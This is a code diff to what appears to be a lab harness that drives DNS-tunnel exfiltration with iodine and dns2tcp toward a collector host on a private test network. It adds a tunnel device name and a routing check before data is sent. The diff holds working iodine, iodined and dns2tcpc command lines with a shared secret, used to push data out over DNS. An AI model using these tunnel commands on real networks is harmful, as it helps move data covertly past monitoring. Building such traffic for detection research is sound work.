@@ -33,6 +33,7 @@ from mimir.units import NS_PER_S
 
 _NET, _FAR, _COLLECT, _NEAR_PORT, _SECRET = "100.64.53.1/27", "100.64.53.1", 9001, 9000, "mimir"
 _READY_S, _TRY_S, _LAST_S, _LAUNCH_S, _END_S = 30.0, 0.1, 30.0, 0.5, 1.0
+_TUNNEL = "dns0"
 _ECHO = Path("/proc/sys/net/ipv4/icmp_echo_ignore_all")
 _TAIL = 400
 
@@ -78,7 +79,22 @@ def ends_of(spec: ExfiltrationSpec, layout: Layout) -> Ends:
     domain, kind = spec.dns.domain, spec.dns.record_type
     if spec.channel == "tool_iodine":
         server = ["iodined", "-f", "-c", "-P", _SECRET, "-l", sink, _NET, domain]
-        client = ["iodine", "-f", "-r", "-I", "1", "-T", kind, "-M", str(spec.dns.name_bytes), "-P", _SECRET, resolver]
+        client = [
+            "iodine",
+            "-f",
+            "-r",
+            "-I",
+            "1",
+            "-d",
+            _TUNNEL,
+            "-T",
+            kind,
+            "-M",
+            str(spec.dns.name_bytes),
+            "-P",
+            _SECRET,
+            resolver,
+        ]
         return Ends(server, [*client, domain], (_FAR, _COLLECT), (_FAR, _COLLECT), ready=("udp", DNS_PORT))
     config = f"listen = {sink}\nport = {DNS_PORT}\nkey = {_SECRET}\ndomain = {domain}\nresources = collect:{sink}:{_COLLECT}\n"
     client = ["dns2tcpc", "-r", "collect", "-k", _SECRET, "-z", domain, "-T", kind, "-l", str(_NEAR_PORT), resolver]
@@ -146,6 +162,7 @@ class ToolAct:
                 server = await self._until(lambda: hosts.outside.listen(self._collect, ends.exit[1], ends.exit[0]))  # type: ignore[index]
             client = await self._start(ends.client, self._store, takes=ends.entry is None)
             writer = client.process.stdin
+            await self._until(self._tunnelled)
             if ends.entry:
                 _, writer = await self._until(lambda: self._store.connect(*ends.entry))  # type: ignore[misc]
             assert writer
@@ -214,6 +231,14 @@ class ToolAct:
             if any(program.process.returncode is not None for program in self._programs):
                 raise self._failed("ended")
             await asyncio.sleep(_TRY_S)
+
+    async def _tunnelled(self) -> None:
+        """ConnectionError until the pod has a way into iodine's tunnel: what is sent before would leave by the node."""
+        if self._spec.channel == "tool_iodine":
+            with self._store.namespace:
+                table = Path("/proc/thread-self/net/route").read_text(encoding="ascii")
+            if _TUNNEL not in [line.split()[0] for line in table.splitlines()]:
+                raise ConnectionError(f"{_TUNNEL} is not up")
 
     async def _ready(self) -> None:
         """ConnectionError until the server end has opened its port; nothing is sent to find out."""
